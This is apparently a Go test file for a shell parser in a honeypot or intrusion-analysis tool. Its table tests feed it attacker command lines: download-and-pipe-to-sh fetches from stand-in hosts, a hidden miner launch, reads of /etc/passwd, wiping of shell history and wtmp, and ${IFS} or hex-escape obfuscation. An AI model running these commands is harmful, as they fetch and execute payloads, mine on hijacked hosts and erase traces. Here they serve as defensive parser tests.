package shell

import (
	"fmt"
	"strings"
	"testing"

	"github.com/decnet/ttp/internal/workload"
)

// dump renders a line compactly for table tests, one command per "; ":
// wrappers:program["args"]{redirs}, "|N " when piped from command N, " ^N/via" when nested.
func dump(l *Line) string {
	var parts []string
	for _, c := range l.Commands {
		s := c.Name
		if c.Path != c.Name {
			s = c.Path
		}
		if len(c.Args) > 0 {
			s += fmt.Sprintf("%q", c.Args)
		}
		for _, r := range c.Redirs {
			s += "{" + r.Fd + r.Op + r.Target + "}"
		}
		if len(c.Wrappers) > 0 {
			s = strings.Join(c.Wrappers, "+") + ":" + s
		}
		if c.PipedFrom >= 0 {
			s = fmt.Sprintf("|%d ", c.PipedFrom) + s
		}
		if c.Parent >= 0 {
			s += fmt.Sprintf(" ^%d/%d", c.Parent, c.Via)
		}
		if c.Background {
			s += " &"
		}
		parts = append(parts, s)
	}
	return strings.Join(parts, "; ")
}

func TestParse(t *testing.T) {
	tests := []struct{ in, want string }{
		{`uname -a`, `uname["-a"]`},
		{`uname -a; cat /etc/passwd | grep root && echo "$(whoami)"`, `uname["-a"]; cat["/etc/passwd"]; |1 grep["root"]; echo["$(whoami)"]; whoami ^3/1`},
		{`sudo env X=1 nohup /tmp/.x/miner -o pool:3333 >/dev/null 2>&1 &`, `sudo+env+nohup:/tmp/.x/miner["-o" "pool:3333"]{>/dev/null}{2>&1} &`},
		{`echo "cd /tmp; wget http://1.2.3.4/x; ./x" | sh`, `echo["cd /tmp; wget http://1.2.3.4/x; ./x"]; |0 sh; cd["/tmp"] ^1/3; wget["http://1.2.3.4/x"] ^1/3; ./x ^1/3`},
		{`echo -e "id" | bash`, `echo["-e" "id"]; |0 bash; id ^1/3`},
		{`sh -c 'busybox wget http://x/y -O- | sh'`, `sh["-c" "busybox wget http://x/y -O- | sh"]; busybox:wget["http://x/y" "-O-"] ^0/2; |1 sh ^0/2`},
		{`bash -lc "sh -c 'id'"`, `bash["-lc" "sh -c 'id'"]; sh["-c" "id"] ^0/2; id ^1/2`},
		{`/bin/busybox ECCHI`, `busybox:ECCHI`},
		{`busybox`, `busybox`},
		{`w\hoami`, `whoami`},
		{`"uname" -a`, `uname["-a"]`},
		{`'/bin/cat' "/etc/pass"'wd'`, `/bin/cat["/etc/passwd"]`},
		{"uname\t-a", `uname["-a"]`},
		{"for i in $(seq 1 10); do nc -z 10.0.0.$i 22; done", `for; seq["1" "10"] ^0/1; nc["-z" "10.0.0.$i" "22"]`},
		{"while :; do sleep 1; done", `while; :; sleep["1"]`},
		{"cat << EOF > /tmp/x\nhello\nEOF", "cat{<<hello\n}{>/tmp/x}"},
		{"sh <<< 'id'", "sh{<<<id}; id ^0/3"},
		{`echo 'unterminated`, `echo["unterminated"]`},
		{`timeout 10 wget x`, `timeout:wget["x"]`},
		{`timeout -s KILL 5m ./run`, `timeout:./run`},
		{`nice -n 19 ./x`, `nice:./x`},
		{`exec ./x`, `exec:./x`},
		{`command -v wget`, `command["-v" "wget"]`},
		{`ps aux | grep xmrig | awk '{print $2}' | xargs kill -9`, `ps["aux"]; |0 grep["xmrig"]; |1 awk["{print $2}"]; |2 xargs:kill["-9"]`},
		{"bash -c \"$(curl -fsSL http://x/s.sh)\"", `bash["-c" "$(curl -fsSL http://x/s.sh)"]; curl["-fsSL" "http://x/s.sh"] ^0/1`},
		{"echo `uname -m`", "echo[\"`uname -m`\"]; uname[\"-m\"] ^0/1"},
		{`$SHELL -c "id"`, `$SHELL["-c" "id"]; id ^0/2`},
		{`su -c "id" root`, `su["-c" "id" "root"]; id ^0/2`},
		{`eval "uname -a"`, `eval["uname -a"]; uname["-a"] ^0/2`},
		{`X=1 Y=2 ./run`, `./run`},
		{`cd /tmp || cd /var/tmp; wget x`, `cd["/tmp"]; cd["/var/tmp"]; wget["x"]`},
		{`(cd /tmp && ls)`, `cd["/tmp"]; ls`},
		{`if [ -f /x ]; then rm /x; fi`, `[["-f" "/x" "]"]; rm["/x"]`},
		{`echo $'\x41\x42' > /tmp/a`, `echo["AB"]{>/tmp/a}`},
		{`cat /dev/null >~/.bash_history`, `cat["/dev/null"]{>~/.bash_history}`},
		{`>/var/log/wtmp`, `{>/var/log/wtmp}`},
		{`head -c 100 > /tmp/x`, `head["-c" "100"]{>/tmp/x}`},
		{`scp -t /tmp/`, `scp["-t" "/tmp/"]`},
		{`bash <(curl -s http://x)`, `bash["<(curl -s http://x)"]; curl["-s" "http://x"] ^0/1`},
		{`a) b (`, `a; b`},
		{`cd${IFS}/tmp;wget${IFS}http://x/y`, `cd["/tmp"]; wget["http://x/y"]`},
		{`/bin/busybox${IFS}ECCHI`, `busybox:ECCHI`},
		{`echo -e '\x69\x64' | sh`, `echo["-e" "\\x69\\x64"]; |0 sh; id ^1/3`},
		{`printf 'uname -a' | bash`, `printf["uname -a"]; |0 bash; uname["-a"] ^1/3`},
		{`echo $(a b) $(c d) "$(e f)"`, `echo["$(a b)" "$(c d)" "$(e f)"]; a["b"] ^0/1; c["d"] ^0/1; e["f"] ^0/1`},
		{`sh -c 'x 1; y 2' && sh -c 'z 3'`, `sh["-c" "x 1; y 2"]; x["1"] ^0/2; y["2"] ^0/2; sh["-c" "z 3"]; z["3"] ^3/2`},
		{``, ``},
		{`;;;`, ``},
	}
	for _, tt := range tests {
		if got := dump(Parse(tt.in)); got != tt.want {
			t.Errorf("%q:\n got %s\nwant %s", tt.in, got, tt.want)
		}
	}
}

// TestStrictAgreesWithMvdan: on every line the fast lexer accepts, mvdan's reading must be the
// same, so the fast path is an optimisation and not a second dialect.
func TestStrictAgreesWithMvdan(t *testing.T) {
	n, fast := 0, 0
	for _, c := range mix(t, 5000) {
		raws, ok := lexStrict(c)
		if !ok {
			continue
		}
		fast++
		m, ok := parseMvdan(c)
		if !ok {
			continue // mvdan rejects some lines bash accepts (and we read)
		}
		a, b := fmt.Sprint(simplify(raws)), fmt.Sprint(simplify(m))
		if a != b {
			t.Errorf("%q:\nlexer %s\nmvdan %s", c, a, b)
			if n++; n > 10 {
				t.FailNow()
			}
		}
	}
	t.Logf("%d of 5000 lines through the fast lexer", fast)
}

func simplify(rs []rawCmd) []string {
	var out []string
	for _, r := range rs {
		out = append(out, fmt.Sprintf("%s %q %v %v", r.op, r.words, r.redirs, r.bg))
	}
	return out
}

func TestParentOf(t *testing.T) {
	l := Parse(`curl http://x | sh; bash -c 'id'`)
	for i, want := range []string{"", "curl", "", "bash"} {
		got := ""
		if p := l.ParentOf(i); p != nil {
			got = p.Name
		}
		if got != want {
			t.Errorf("command %d (%s): parent %q, want %q", i, l.Commands[i].Name, got, want)
		}
	}
	if got := l.Commands[0].Image(); got != "/usr/bin/curl" {
		t.Errorf("Image %q", got)
	}
	if got := l.Commands[0].CommandLine(); got != "curl http://x" {
		t.Errorf("CommandLine %q", got)
	}
}

func TestDepthBound(t *testing.T) {
	line := "id"
	for i := 0; i < 8; i++ {
		line = "sh -c " + quote(line)
	}
	l := Parse(line)
	if len(l.Commands) != MaxDepth+1 {
		t.Errorf("%d commands, want %d", len(l.Commands), MaxDepth+1)
	}
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func FuzzParse(f *testing.F) {
	for _, c := range []string{`uname -a`, `echo "$(id)" | sh`, "a `b` 'c", `x <<E`, `$(((`, "sh -c 'sh -c \"sh -c id\"'"} {
		f.Add(c)
	}
	var reused Parser
	f.Fuzz(func(t *testing.T, s string) {
		l := Parse(s)
		reused.Parse("sudo sh -c 'echo $(id) | sh' > /tmp/x")
		if again := reused.Parse(s); dump(&again) != dump(l) {
			t.Fatalf("%q: a reused Parser reads %s, a new one %s", s, dump(&again), dump(l))
		}
		for i, c := range l.Commands {
			if c.PipedFrom >= i || c.Parent >= i || c.PipedTo >= len(l.Commands) {
				t.Fatalf("%q: command %d links forward: %+v", s, i, c)
			}
		}
	})
}

func mix(tb testing.TB, n int) []string {
	attacks, err := workload.AttackerCommands("../testdata/corpus")
	if err != nil {
		tb.Fatal(err)
	}
	return workload.Commands(workload.Seed, n, attacks)
}

// BenchmarkParse is the figure behind the two-tier design (RATIONALE.md): the realistic mix
// read by Parse (fast lexer, mvdan for what it declines), by mvdan alone, and by the lexer
// alone on the lines it accepts.
func BenchmarkParse(b *testing.B) {
	cmds := mix(b, 10000)
	b.Run("tiered", func(b *testing.B) {
		var p Parser
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			p.Parse(cmds[i%len(cmds)])
		}
	})
	b.Run("mvdan", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			parseMvdan(cmds[i%len(cmds)])
		}
	})
	b.Run("lexer", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			lexStrict(cmds[i%len(cmds)])
		}
	})
}
